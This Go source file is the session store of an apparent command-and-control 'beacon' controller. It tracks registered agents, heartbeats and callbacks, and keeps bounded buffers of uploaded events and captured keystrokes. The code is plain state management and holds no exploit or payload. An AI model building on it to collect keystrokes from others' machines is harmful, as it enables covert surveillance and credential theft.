// Package session holds the controller's per-agent state: identity,
// liveness timestamps, callback counters and bounded telemetry buffers.
package session

import (
	"errors"
	"sort"
	"sync"
	"time"

	"github.com/outfleet/beacon/internal/telemetry"
)

var ErrSessionNotFound = errors.New("session not found")

// Callback carries one accepted callback's worth of session mutation.
type Callback struct {
	AgentID     string
	DisplayName string
	Timestamp   time.Time
	Status      map[string]any
	Events      []telemetry.Event
	Keystrokes  []telemetry.Event
}

// Store is a concurrency-safe map of agent id to Session. A store-wide
// mutex serializes all mutation so buffer trimming and counter increments
// are never interleaved within a single session's update.
type Store struct {
	mu       sync.RWMutex
	sessions map[string]*Session
	order    []string // agent ids in first-seen order
}

func NewStore() *Store {
	return &Store{sessions: make(map[string]*Session)}
}

// Register upserts the session for a registering agent. It records the
// reachable address and capability manifest but does not touch the
// callback counter. The display name is immutable after first sight.
func (st *Store) Register(agentID, displayName, address string, capabilities []string, ts time.Time) Snapshot {
	st.mu.Lock()
	defer st.mu.Unlock()

	s, ok := st.sessions[agentID]
	if !ok {
		s = newSession(agentID, displayName, ts)
		st.sessions[agentID] = s
		st.order = append(st.order, agentID)
	}
	s.lastSeen = ts
	s.address = address
	s.capabilities = append([]string(nil), capabilities...)
	return s.snapshot()
}

// Heartbeat updates liveness for a known agent.
func (st *Store) Heartbeat(agentID string, ts time.Time) error {
	st.mu.Lock()
	defer st.mu.Unlock()

	s, ok := st.sessions[agentID]
	if !ok {
		return ErrSessionNotFound
	}
	s.lastSeen = ts
	return nil
}

// ApplyCallback upserts the session for an accepted callback: creates it
// on first sight, bumps last_seen and total_callbacks, overwrites the
// status fields wholesale and appends the carried telemetry to the
// bounded buffers. The whole mutation happens under one lock hold.
func (st *Store) ApplyCallback(cb Callback) Snapshot {
	st.mu.Lock()
	defer st.mu.Unlock()

	s, ok := st.sessions[cb.AgentID]
	if !ok {
		s = newSession(cb.AgentID, cb.DisplayName, cb.Timestamp)
		st.sessions[cb.AgentID] = s
		st.order = append(st.order, cb.AgentID)
	}
	s.lastSeen = cb.Timestamp
	s.totalCallbacks++
	s.status = cb.Status
	s.events.append(cb.Events...)
	s.keystrokes.append(cb.Keystrokes...)
	return s.snapshot()
}

// Get returns a snapshot of one session.
func (st *Store) Get(agentID string) (Snapshot, error) {
	st.mu.RLock()
	defer st.mu.RUnlock()

	s, ok := st.sessions[agentID]
	if !ok {
		return Snapshot{}, ErrSessionNotFound
	}
	return s.snapshot(), nil
}

// List returns snapshots of every session in first-seen order.
func (st *Store) List() []Snapshot {
	st.mu.RLock()
	defer st.mu.RUnlock()

	out := make([]Snapshot, 0, len(st.order))
	for _, id := range st.order {
		out = append(out, st.sessions[id].snapshot())
	}
	return out
}

// RecentEvents returns up to limit of the most recent buffered events for
// an agent, oldest of the returned slice first.
func (st *Store) RecentEvents(agentID string, limit int) ([]telemetry.Event, error) {
	st.mu.RLock()
	defer st.mu.RUnlock()

	s, ok := st.sessions[agentID]
	if !ok {
		return nil, ErrSessionNotFound
	}
	return s.events.tail(limit), nil
}

// RecentKeystrokes is RecentEvents for the keystroke buffer.
func (st *Store) RecentKeystrokes(agentID string, limit int) ([]telemetry.Event, error) {
	st.mu.RLock()
	defer st.mu.RUnlock()

	s, ok := st.sessions[agentID]
	if !ok {
		return nil, ErrSessionNotFound
	}
	return s.keystrokes.tail(limit), nil
}

// Restore seeds the store from persisted snapshots, preserving first-seen
// ordering. Intended for controller boot, before the listener starts;
// snapshots for already-present agents are ignored.
func (st *Store) Restore(snapshots []Snapshot) {
	sorted := append([]Snapshot(nil), snapshots...)
	sort.Slice(sorted, func(i, j int) bool {
		return sorted[i].FirstSeen.Before(sorted[j].FirstSeen)
	})

	st.mu.Lock()
	defer st.mu.Unlock()

	for _, snap := range sorted {
		if _, ok := st.sessions[snap.AgentID]; ok {
			continue
		}
		s := newSession(snap.AgentID, snap.DisplayName, snap.FirstSeen)
		s.lastSeen = snap.LastSeen
		s.address = snap.Address
		s.capabilities = append([]string(nil), snap.Capabilities...)
		s.totalCallbacks = snap.TotalCallbacks
		s.status = snap.Status
		s.events.append(snap.Events...)
		s.keystrokes.append(snap.Keystrokes...)
		st.sessions[snap.AgentID] = s
		st.order = append(st.order, snap.AgentID)
	}
}
